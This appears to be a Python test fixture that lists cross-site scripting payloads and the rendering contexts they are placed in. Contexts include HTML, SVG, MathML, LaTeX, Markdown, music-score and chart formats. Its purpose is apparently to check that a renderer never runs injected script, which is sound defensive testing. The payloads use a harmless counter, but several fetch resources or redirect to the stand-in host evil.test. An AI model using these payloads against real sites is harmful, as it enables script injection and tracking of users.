"""Texts that a page could print to make its reader's browser run something, and the places they could stand in."""

from __future__ import annotations

import json

# `HIT` counts that it ran; `evil.test` is where requests would go.
HIT = "window.hit=1+(window.hit||0)"
PAYLOADS = tuple(
    payload.replace("HIT", HIT)
    for payload in (
        "<script>HIT</script>",
        "</script><script>HIT</script>",
        "</style><script>HIT</script>",
        "</title><script>HIT</script>",
        "</pre></code><script>HIT</script>",
        "</textarea><script>HIT</script>",
        "--><script>HIT</script><!--",
        "]]><script>HIT</script>",
        "<SCRIPT>HIT</SCRIPT>",
        "<scr<script>ipt>HIT</scr</script>ipt>",
        "<script src=http://evil.test/x.js></script>",
        "<script src=data:text/javascript,HIT></script>",
        "<svg onload=HIT>",
        "<svg><script>HIT</script></svg>",
        "<svg/onload=HIT//",
        "<svg><animate onbegin=HIT attributeName=x dur=1s>",
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=HIT/>#x'/></svg>",
        "<svg><foreignObject><img src=x onerror=HIT></foreignObject></svg>",
        "<svg><a xlink:href='javascript:HIT'><text>x</text></a></svg>",
        "<svg><set attributeName=onmouseover to=HIT>",
        "<math><mtext></mtext><script>HIT</script></math>",
        "<math><mi//xlink:href='javascript:HIT'>x</mi></math>",
        "<math href='javascript:HIT'>x</math>",
        "<math><annotation-xml encoding='text/html'><script>HIT</script></annotation-xml></math>",
        "<mglyph><style><img src=x onerror=HIT></style></mglyph>",
        "<img src=x onerror=HIT>",
        "<img src=x onerror='HIT'/>",
        "<IMG SRC=x ONERROR=HIT>",
        '"><img src=x onerror=HIT>',
        "'><img src=x onerror=HIT>",
        'x" onmouseover="HIT" autofocus onfocus="HIT" tabindex=1 x="',
        "<img src=http://evil.test/p.png>",
        "<img srcset='http://evil.test/p.png 1x'>",
        "<link rel=stylesheet href=http://evil.test/s.css>",
        "<style>@import url(http://evil.test/s.css);</style>",
        "<style>*{background:url(http://evil.test/b)}</style>",
        '<div style="background:url(http://evil.test/b)">',
        "<body onload=HIT>",
        "<input autofocus onfocus=HIT>",
        "<details open ontoggle=HIT>",
        "<video src=x onerror=HIT></video>",
        "<audio src=http://evil.test/a onerror=HIT>",
        "<video poster=http://evil.test/p>",
        "<iframe src=javascript:HIT></iframe>",
        "<iframe srcdoc='<script>parent.HIT</script>'></iframe>",
        "<iframe src=http://evil.test/></iframe>",
        "<object data=http://evil.test/o></object>",
        "<embed src=http://evil.test/e>",
        "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
        "<base href=http://evil.test/>",
        "<form action=http://evil.test/><input type=submit autofocus onfocus=HIT></form>",
        "<a href=javascript:HIT id=x>x</a>",
        "javascript:HIT",
        "JaVaScRiPt:HIT",
        "java\tscript:HIT",
        "data:text/html,<script>HIT</script>",
        "vbscript:HIT",
        "&lt;script&gt;HIT&lt;/script&gt;",
        "&#60;script&#62;HIT&#60;/script&#62;",
        "\u003cscript\u003eHIT\u003c/script\u003e",
        "\uff1cscript\uff1eHIT\uff1c/script\uff1e",
        "<scr\x00ipt>HIT</scr\x00ipt>",
        "<b onmouseover=HIT>x</b><sub onclick=HIT>y</sub>",
        "<smiles>C</smiles><script>HIT</script>",
        "${HIT}",
        "{{constructor.constructor('HIT')()}}",
        "\\href{javascript:HIT}{x}",
        "\\url{javascript:HIT}",
        "\\includegraphics{http://evil.test/p.png}",
        "\\unicode{<script>HIT</script>}",
        '\\class{x" onmouseover="HIT}{y}',
        "\\style{background:url(http://evil.test/b)}{y}",
        "\\text{</math><img src=x onerror=HIT>}",
        "\\tag{<img src=x onerror=HIT>}",
        '\\textcolor{red" onclick="HIT}{x}',
        "[x](javascript:HIT)",
        "![x](http://evil.test/p.png)",
        '![x](x"onerror="HIT)',
        "<http://evil.test/>",
        "[x]: http://evil.test/ 'x'",
    )
)

CONTEXTS = {
    "answer": "%s",
    "heading": "# %s",
    "line": "a **%s** b",
    "quote": "> %s",
    "code": "```\n%s\n```",
    "formula": r"see \( %s \)",
    "display": r"\[ a = %s \tag{%s} \]",
    "text of a formula": r"\[ \text{%s} \]",
    "cell": r"\begin{tabular}{l} %s & \multicolumn{2}{c}{%s} \\ \end{tabular}",
    "columns": r"\begin{tabular}{%s} a & b \\ \end{tabular}",
    "pipe table": "| a | b |\n|---|---|\n| %s | x |",
    "title of a score": "!!!OTL: %s\n**kern\n*clefG2\n4c\n*-",
    "lyrics": "**kern\t**text\n*clefG2\t*\n4c\t%s\n*-\t*-",
    "score": "**kern\n*clefG2\n*I\"%s\n4c\n*-",
    "label of a drawing": r"\begin{tikzpicture}\draw (0,0) node[above] {%s} -- (1,1);\end{tikzpicture}",
    "options of a drawing": r"\begin{tikzpicture}\draw[%s,font=%s] (0,0) -- (1,1);\end{tikzpicture}",
    "molecule": "<smiles>%s</smiles>",
    "link": "[x](%s) and ![y](%s)",
    "href": r"\href{%s}{x} \includegraphics{%s}",
}  # fmt: skip


def answers(payload: str) -> dict[str, str]:
    """The payload in every place."""
    made = {name: template.replace("%s", payload) for name, template in CONTEXTS.items()}
    made["chart"] = json.dumps(
        {"title": payload, "x_title": payload, "values": {payload: {payload: "1", "b": payload}}}
    )
    return made
